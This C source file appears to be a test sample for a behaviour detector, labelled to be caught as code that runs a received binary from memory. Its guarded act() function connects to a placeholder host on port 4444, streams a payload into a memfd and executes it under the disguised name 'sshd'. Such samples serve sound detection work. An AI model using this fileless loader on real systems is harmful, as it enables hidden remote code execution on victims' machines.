/* The same by way of the file's path.
 * expect: native-received-runs-from-memory
 * flags: -D_GNU_SOURCE -O2
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <fcntl.h>
#include <sys/types.h>
#include <sys/socket.h>
#include <netinet/in.h>
#include <arpa/inet.h>

#include <sys/mman.h>
static int act(void) {
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(4444)};
    to.sin_addr.s_addr = inet_addr("192.0.2.7");
    int s = socket(AF_INET, SOCK_STREAM, 0);
    if (connect(s, (struct sockaddr *)&to, sizeof to) != 0)
        return 1;
    char room[4096], path[64];
    int f = memfd_create("x", 0);
    long n;
    while ((n = recv(s, room, sizeof room, 0)) > 0)
        write(f, room, n);
    snprintf(path, sizeof path, "/proc/self/fd/%d", f);
    execl(path, "sshd", (char *)0);
    return 2;
}

/* Never true: the code is compiled and cannot run. */
static volatile int never;

int main(void) { return never ? act() : 0; }
